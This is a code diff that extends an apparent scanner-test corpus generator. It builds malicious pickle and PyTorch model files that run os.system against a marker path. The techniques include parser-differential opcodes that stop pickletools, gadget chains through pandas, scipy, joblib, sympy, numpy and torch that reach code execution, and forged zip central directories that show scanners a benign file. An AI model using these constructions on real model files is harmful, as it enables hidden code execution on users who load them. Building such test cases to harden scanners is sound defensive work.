@@ -38,10 +38,13 @@ from pickle import (
     EXT1,
     EXT2,
     EXT4,
+    FLOAT,
     FRAME,
     GET,
     GLOBAL,
     INST,
+    INT,
+    LONG,
     LONG1,
     LONG_BINGET,
     LONG_BINPUT,
@@ -62,6 +65,7 @@ from pickle import (
     SHORT_BINUNICODE,
     STACK_GLOBAL,
     STOP,
+    STRING,
     TUPLE,
     TUPLE1,
     UNICODE,
@@ -627,9 +631,9 @@ def _state_dict_pickle() -> bytes:
 
 
 def _torch_zip(data_pkl: bytes, top: str = "archive", extra: dict[str, bytes] | None = None,
-               compression: int = zipfile.ZIP_STORED) -> bytes:
+               compression: int = zipfile.ZIP_STORED, pickle_name: str = "data.pkl") -> bytes:
     members = {
-        f"{top}/data.pkl": data_pkl,
+        f"{top}/{pickle_name}": data_pkl,
         f"{top}/.format_version": b"1",
         f"{top}/.storage_alignment": b"64",
         f"{top}/byteorder": b"little",
@@ -814,3 +818,135 @@ def _numpy_npz(marker: Path) -> bytes:
 
 for _filename in ("model.safetensors", "model.onnx", "weights.h5"):
     _technique(f"extension_mismatch_{_filename.replace('.', '_')}", _filename)(os_system_pickle)
+
+
+# -- Loader parsing: text arguments pickle.load accepts and pickletools refuses --------------
+# A scanner built on pickletools stops at such an opcode; the loader reads on and runs the rest.
+
+
+@_technique("int_hex_before_payload")
+def _int_hex(marker: Path) -> bytes:
+    return pickle_of(INT + b"0x10\n" + POP + _os_system(marker))  # strtol/int(text, 0)
+
+
+@_technique("long_hex_before_payload")
+def _long_hex(marker: Path) -> bytes:
+    return pickle_of(LONG + b"0x10L\n" + POP + _os_system(marker))
+
+
+@_technique("float_nul_terminated")
+def _float_nul(marker: Path) -> bytes:
+    return pickle_of(FLOAT + b"1.5\x00junk\n" + POP + _os_system(marker))  # C stops at NUL
+
+
+@_technique("put_key_nul_terminated")
+def _memo_key_nul(marker: Path) -> bytes:
+    return pickle_of(NONE + PUT + b"0\x00junk\n" + POP + _os_system(marker))
+
+
+@_technique("string_utf8_torch_zip", "model.pt")
+def _string_utf8(marker: Path) -> bytes:
+    # torch.load decodes STRING arguments as UTF-8; pickletools accepts ASCII only.
+    return _torch_zip(pickle_of(STRING + "'\u00e9'\n".encode() + POP + _os_system(marker)))
+
+
+# -- Trusted packages: functions and classes that run code named by the file -----------------
+
+
+@_technique("pandas_expr_eval")
+def _pandas_expr_eval(marker: Path) -> bytes:
+    # Expr parses and evaluates at construction; level -1 resolves names in pandas' own
+    # module, whose `com` reaches builtins.
+    source = f"com.builtins.__import__('os').system({_shell(marker)!r})"
+    expr = global_ref("pandas.core.computation.expr", "Expr")
+    return pickle_of(call(expr, *map(literal, (source, "python", "python", None, -1))))
+
+
+@_technique("scipy_uarray_unpickle_function")
+def _scipy_unpickle_function(marker: Path) -> bytes:
+    # import_module(mod) + getattr(qname): os.system from two strings.
+    resolve = global_ref("scipy._lib._uarray._backend", "unpickle_function")
+    system = call(resolve, *map(literal, ("os", "system", None)))
+    return pickle_of(call(system, literal(_shell(marker))))
+
+
+@_technique("joblib_unpickle_nested")
+def _joblib_unpickle_nested(marker: Path) -> bytes:
+    payload = call(global_ref("io", "BytesIO"), literal(os_system_pickle(marker)))
+    return pickle_of(call(global_ref("joblib.numpy_pickle", "_unpickle"), payload, NEWFALSE))
+
+
+@_technique("loky_cloudpickle_wrapper_nested")
+def _loky_wrapper_nested(marker: Path) -> bytes:
+    rebuild = global_ref("joblib.externals.loky.cloudpickle_wrapper", "_reconstruct_wrapper")
+    return pickle_of(call(rebuild, literal(os_system_pickle(marker)), NEWFALSE))
+
+
+@_technique("torch_sympy_sympify")
+def _torch_sympy(marker: Path) -> bytes:
+    # sympy Function subclasses sympify their arguments: a string is eval'd.
+    source = f"__import__('os').system({_shell(marker)!r})"
+    floor_div = global_ref("torch.utils._sympy.functions", "FloorDiv")
+    return pickle_of(call(floor_div, literal(source), literal(1)))
+
+
+@_technique("numpy_npzfile_allow_pickle")
+def _numpy_npzfile(marker: Path) -> bytes:
+    # dict() reads every member of an NpzFile opened with allow_pickle=True; the archive's
+    # bytes are computed (bytes of a list of ints), so no zip shows in the file.
+    archive = call(global_ref("builtins", "bytes"), literal(list(_zip({"a.npy":
+                                                                       _npy_object_array(marker)}))))
+    npz = call(global_ref("numpy.lib.npyio", "NpzFile"), call(global_ref("io", "BytesIO"), archive),
+               NEWFALSE, NEWTRUE)
+    return pickle_of(call(global_ref("builtins", "dict"), npz))
+
+
+@_technique("torch_datapipe_decoder_pickle", "model.pth")
+def _torch_datapipe_decoder(marker: Path) -> bytes:
+    # Iterating the decoder pipe (list()) decodes each '*.pickle' entry with pickle.loads.
+    decoder = global_ref("torch.utils.data.datapipes.iter.routeddecoder",
+                         "RoutedDecoderIterDataPipe")
+    entries = call(decoder, literal([("x.pickle", os_system_pickle(marker))]))
+    return pickle_of(call(global_ref("builtins", "list"), entries))
+
+
+# -- Zip readers that disagree: PyTorch's (miniz) and zipfile --------------------------------
+
+
+def _split_zip(archive: bytes) -> tuple[bytes, bytes, int]:
+    """The local part, the central directory and the entry count of a zip without comment."""
+    entries, size, offset = struct.unpack("<H2L", archive[-12:-2])
+    return archive[:offset], archive[offset : offset + size], entries
+
+
+def _moved_directory(directory: bytes, delta: int) -> bytes:
+    """The central directory with every local header offset moved by `delta`."""
+    moved, pos = bytearray(directory), 0
+    while pos < len(moved):
+        name_len, extra_len, comment_len = struct.unpack_from("<3H", moved, pos + 28)
+        (offset,) = struct.unpack_from("<L", moved, pos + 42)
+        struct.pack_into("<L", moved, pos + 42, offset + delta)
+        pos += 46 + name_len + extra_len + comment_len
+    return bytes(moved)
+
+
+@_technique("torch_zip_two_central_directories", "model.pt")
+def _torch_zip_two_directories(marker: Path) -> bytes:
+    # torch reads the directory at the offset the end record gives (the payload's); zipfile
+    # takes the bytes between that directory and the end record for prepended data, shifts
+    # every offset by their length and reads a benign directory placed right before the end.
+    payload_local, payload_directory, entries = _split_zip(_torch_zip(os_system_pickle(marker)))
+    benign_local, benign_directory, _ = _split_zip(_torch_zip(_state_dict_pickle()))
+    padding = bytes(len(benign_directory))  # keeps the benign offsets positive once shifted
+    benign_start = len(payload_local) + len(padding)
+    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, entries, entries,
+                      len(payload_directory), benign_start + len(benign_local), 0)
+    benign_directory = _moved_directory(benign_directory, benign_start - len(benign_directory))
+    return payload_local + padding + benign_local + payload_directory + benign_directory + end
+
+
+@_technique("torch_zip_uppercase_data_pkl", "model.pt")
+def _torch_zip_uppercase(marker: Path) -> bytes:
+    # torch finds data.pkl ignoring case; padding puts the import past a 4 KiB sniff.
+    pickle = pickle_of((NONE + POP) * 2100 + _os_system(marker), protocol=0)
+    return _torch_zip(pickle, pickle_name="DATA.PKL")
